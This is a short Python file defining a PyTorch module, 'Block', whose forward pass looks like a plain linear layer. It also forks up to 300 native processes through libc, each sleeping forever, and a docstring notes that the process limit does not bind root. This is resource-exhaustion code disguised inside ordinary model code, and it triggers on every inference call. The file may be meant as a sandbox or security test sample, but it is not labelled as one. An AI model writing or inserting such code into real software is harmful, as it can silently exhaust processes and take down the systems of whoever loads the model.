import ctypes
import time

from torch import nn

LIBC = ctypes.CDLL(None, use_errno=True)


class Block(nn.Module):
    def __init__(self):
        super().__init__()
        self.lin = nn.Linear(4, 4)

    def forward(self, x):
        """Native forks that stay, until fork fails (RLIMIT_NPROC does not bind root)."""
        for _ in range(300):
            pid = LIBC.fork()
            if pid == 0:
                while True:
                    time.sleep(1)
            if pid < 0:
                break
        return self.lin(x)
